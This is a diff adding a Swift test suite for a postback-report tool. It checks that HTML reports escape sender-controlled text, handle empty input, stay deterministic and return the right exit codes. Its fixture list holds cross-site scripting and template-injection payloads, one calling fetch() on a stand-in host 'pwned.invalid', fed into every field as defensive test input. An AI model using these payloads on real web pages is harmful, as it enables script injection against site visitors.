@@ -1,0 +1,117 @@
+import Foundation
+import JSON
+import TestSupport
+import Testing
+
+@testable import postback
+
+@Suite struct `postback report` {
+  /// What tries to leave the page, or to be more than text in it.
+  private static let hostile = [
+    #"</script><img src=x onerror=\"document.title='pwned'\">"#, #"<script src=http://pwned.invalid/x.js></script>"#,
+    #"\"><svg onload=fetch('http://pwned.invalid')>"#, #"'-alert(1)-'"#, #"]]><!--<script>"#, #"&lt;b&gt;&amp;"#,
+    #"\u2028\u2029\u202e\u0007"#, #"javascript:alert(1)"#, #"{{7*7}}${7*7}"#,
+  ]
+
+  /// A spool's worth of hostile postbacks: markup in every column that a sender can fill.
+  private static var hostileLines: String {
+    hostile.enumerated().map { index, text in
+      """
+      {"received_at":"2026-03-0\(1 + index % 9)T00:00:00Z","channel":"network_forwarded","forwarder":"\(text)",\
+      "body":{"version":"\(text)","ad-network-id":"\(text)","transaction-id":"\(text)","app-id":"\(text)"}}
+      \(text.replacing("\\\"", with: "\""))
+      {"version":"4.0","ad-network-id":"\(text)","source-identifier":"\(text)","app-id":1,"transaction-id":"\(text)",\
+      "redownload":false,"source-domain":"\(text)","fidelity-type":1,"did-win":true,"postback-sequence-index":0,\
+      "attribution-signature":"MEUCIQCMf2zVe0SbN8GLZ8mYcBAVgBtd"}
+
+      """
+    }.joined()
+  }
+
+  @Test func `shows in a browser what the tables hold, and nothing of it runs`() async throws {
+    let folder = try TemporaryFolder()
+    let (dump, out, page) = (folder.path("dump"), folder.path("out"), folder.path("report.html"))
+    let shares = ["--forged", "0.05", "--edited", "0.1", "--duplicate", "0.15", "--malformed", "0.05"]
+    let generated = try await BuiltCommand.run(
+      ["generate", "--count", "1500", "--seed", "9", "--envelopes", "--out", dump, "--keys", folder.path("keys")]
+        + shares
+    )
+    #expect(generated.status == 0, "\(generated.errorText)")
+    let hostile = try folder.makeFile("hostile", holding: Array(Self.hostileLines.utf8))
+    let keys = String(decoding: try folder.contents(of: "keys"), as: UTF8.self).split { $0.isWhitespace }.map(
+      String.init
+    )
+    let run = try await BuiltCommand.run(
+      [
+        "run", dump, hostile, "--out", out, "--models", Fixtures.path("models"), "--received-at",
+        "2026-03-10T00:00:00Z",
+      ] + keys
+    )
+    #expect(run.status == 0, "\(run.errorText)")
+    let report = try await BuiltCommand.run(["report", out, "--html", page])
+    #expect(report.status == 0, "\(report.errorText)")
+
+    let script = Fixtures.path("../Tests/report_in_browser.py")
+    let result = try await BuiltCommand.run(executable: "/usr/bin/env", ["python3", script, page, out])
+    if result.status == 77 {
+      print("not tested in a browser: \(result.errorText)")
+      return
+    }
+    #expect(result.status == 0, "\(result.errorText)")
+  }
+
+  @Test func `is the same whatever the number of cores`() async throws {
+    let site = try await RejectsSite.shared.value
+    var pages: [[UInt8]] = []
+    for jobs in ["1", "3"] {
+      let result = try await BuiltCommand.run(["report", site.out, "--html", "-", "--sample", "100", "--jobs", jobs])
+      #expect(result.status == 0, "\(result.errorText)")
+      pages.append(result.output)
+    }
+    #expect(pages[0] == pages[1])
+    #expect(pages[0].count > 20_000)
+  }
+
+  @Test func `of nothing is a page too`() async throws {
+    let folder = try TemporaryFolder()
+    let out = folder.path("out")
+    let empty = try folder.makeFile("empty")
+    #expect(try await BuiltCommand.run(["run", empty, "--out", out]).status == 0)
+    let result = try await BuiltCommand.run(["report", out, "--html", "-"])
+    #expect(result.status == 0, "\(result.errorText)")
+    #expect(result.text.contains("All 0 rejects."))
+    #expect(!result.text.contains("nan") && !result.text.contains("inf "))
+  }
+
+  @Test func `text stays text, in markup, attributes and JSON`() throws {
+    var generator = SplitMix(seed: 3)
+    let pieces = [
+      "<", ">", "&", "\"", "'", "</script>", "<!--", "\u{2028}", "\u{0}", "é", "a", "\\", "]]>", "\u{202E}",
+    ]
+    for _ in 0..<2000 {
+      let text = (0..<Int.random(in: 0..<12, using: &generator)).map { _ in pieces.randomElement(using: &generator)! }
+        .joined()
+      let html: HTML = "<p title=\"\(text)\">\(text)</p>"
+      let inside = html.markup.dropFirst("<p title=\"".count).dropLast("</p>".count)
+      #expect(inside.filter { $0 == "<" || $0 == "\"" || $0 == "'" }.count == 1)
+      let json = HTML.script(.object([.init("text", .string(text))])).markup
+      #expect(!json.contains { "<>&\u{2028}\u{2029}".contains($0) })
+      #expect(try JSONValue(parsing: Array(json.utf8))["text"]?.text == text)
+    }
+  }
+
+  @Test(arguments: [[], ["out"], ["--html", "x"], ["-", "--html", "x"], ["out", "--html", ""]])
+  func `64 for a wrong command line`(_ arguments: [String]) async throws {
+    let result = try await BuiltCommand.run(["report"] + arguments)
+    #expect(result.status == 64)
+  }
+
+  @Test func `73 where the file is there already`() async throws {
+    let site = try await RejectsSite.shared.value
+    let folder = try TemporaryFolder()
+    let file = try folder.makeFile("report.html", holding: [1])
+    let result = try await BuiltCommand.run(["report", site.out, "--html", file])
+    #expect(result.status == 73)
+    #expect(try folder.contents(of: "report.html") == [1])
+  }
+}
